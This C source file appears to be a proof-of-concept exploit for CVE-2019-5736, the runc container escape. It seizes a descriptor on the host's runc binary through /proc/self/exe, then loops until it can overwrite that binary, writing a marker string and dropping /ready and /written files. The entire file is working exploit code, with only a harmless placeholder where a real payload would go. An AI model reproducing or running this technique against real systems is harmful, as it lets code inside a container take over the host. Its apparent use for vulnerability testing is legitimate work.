/* CVE-2019-5736: a container's program that writes to the file from which its container was started.
 *
 * As the container's loader (executed as /proc/self/exe) it runs in a process that executes the host's file: it takes a descriptor on that file
 * and becomes /attack, since a file that is executed cannot be written. As /attack it waits until nobody executes the file and writes to it.
 * It needs no library: gcc -static-pie -nostdlib.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

static int begins(const char *text, const char *with)
{
	while (*with)
		if (*text++ != *with++)
			return 0;
	return 1;
}

static void say(const char *path)
{
	call(SYS_open, (long)path, O_WRONLY | O_CREAT, 0644);
}

__attribute__((used)) static void run(long *stack)
{
	char **arguments = (char **)(stack + 1);
	if (begins(arguments[0], "/proc/")) {
		char *next[] = { "/attack", 0 };
		/* 3, if nothing else is open. */
		if (call(SYS_open, (long)"/proc/self/exe", O_PATH, 0) == 3)
			call(SYS_execve, (long)next[0], (long)next, 0);
		call(SYS_exit_group, 1, 0, 0);
	}
	/* It outlives its supervisor. */
	call(SYS_prctl, PR_SET_PDEATHSIG, 0, 0);
	say("/ready");
	for (int tries = 0; tries < 6000; tries++) {
		long time[2] = { 0, 10 * 1000 * 1000 };
		long file = call(SYS_open, (long)"/proc/self/fd/3", O_WRONLY, 0);
		if (file >= 0) {
			call(SYS_write, file, (long)"OWNED", 5);
			say("/written");
			call(SYS_exit_group, 0, 0, 0);
		}
		call(SYS_nanosleep, (long)time, 0, 0);
	}
	call(SYS_exit_group, 1, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall run\n");
